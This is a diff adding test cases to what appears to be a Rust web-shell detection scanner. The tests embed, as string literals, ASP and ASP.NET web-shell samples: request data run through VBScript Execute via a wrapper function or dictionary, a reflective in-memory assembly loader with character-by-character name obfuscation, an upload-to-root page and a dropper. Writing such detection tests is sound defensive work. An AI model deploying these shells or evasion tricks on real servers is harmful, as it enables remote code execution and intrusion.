@@ -561,6 +561,16 @@ fn obfuscated_one_liner_variants() {
     // An upload control saved into the application's root under the sender's name.
     let root = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Send(object o, EventArgs e) {\n if (up.HasFile) up.SaveAs(AppDomain.CurrentDomain.BaseDirectory + up.FileName);\n}\n</script>";
     assert!(hits(root).contains("EXRAY_Upload_Beside_Page"));
+    // Request data run through a pass-through function, and run from a dictionary.
+    let wrap = "<%\nFunction keep(v)\n keep = v\nEnd Function\nk = Join(Array(\"p\",\"w\"), \"\")\nx = Request(k)\nExecute(keep(x))\n%>";
+    assert!(hits(wrap).contains("EXRAY_VBS_Eval_Request_Variable"));
+    let item = "<%\nSet bag = Server.CreateObject(\"Scripting.Dictionary\")\nbag.Add \"c\", Request.Form(\"c\")\nExecute(bag.Item(\"c\"))\n%>";
+    assert!(hits(item).contains("EXRAY_VBS_Eval_Request_Variable"));
+    let plain = "<%\nFunction keep(v)\n keep = v\nEnd Function\nx = Request(\"q\")\nResponse.Write Server.HTMLEncode(keep(x))\n%>";
+    assert!(!hits(plain).contains("EXRAY_VBS_Eval_Request_Variable"));
+    // An in-memory loader whose type and method names are spelled a character at a time.
+    let spelled = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) {\n var b = c.Request.BinaryRead(c.Request.ContentLength);\n var t = Type.GetType(new string(new char[] {'S','y','s','t','e','m','.','R','e','f','l','e','c','t','i','o','n','.','A','s','s','e','m','b','l','y'}));\n var m = t.GetMethod(new string(new char[] {'L','o','a','d'}), new Type[] { typeof(byte[]) });\n var a = m.Invoke(null, new object[] { b });\n} public bool IsReusable { get { return false; } } }";
+    assert!(hits(spelled).contains("EXRAY_NET_Reflective_Loader_Request"));
     // A handler that writes a server-side include into a page it creates.
     let inc = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) {\n var w = File.CreateText(c.Server.MapPath(\"status.aspx\"));\n w.Write(\"<!--#include file=\\\"notes.txt\\\" -->\");\n w.Close(); } public bool IsReusable { get { return false; } } }";
     assert!(hits(inc).contains("EXRAY_Dropper_Embedded_Page"));
